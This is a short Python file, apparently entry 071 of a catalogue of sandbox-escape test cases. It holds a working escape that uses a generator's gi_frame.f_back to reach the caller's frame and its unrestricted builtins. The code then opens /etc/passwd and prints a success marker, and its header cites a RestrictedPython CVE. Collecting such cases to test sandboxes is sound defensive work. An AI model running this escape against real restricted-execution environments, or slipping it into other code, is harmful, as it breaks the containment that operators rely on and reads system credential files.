# escape: 071
# technique: a running generator's gi_frame.f_back is its caller
# family: frame
# goal: frame
# first-seen: RestrictedPython CVE-2023-37271; simpleeval issue 138
def g():
    yield it.gi_frame.f_back
it = g()
f = next(it)
b = (f or it.gi_frame).f_builtins
if b['open']('/etc/passwd').readline().startswith('root:'): print('ESCAPED:gi_frame')
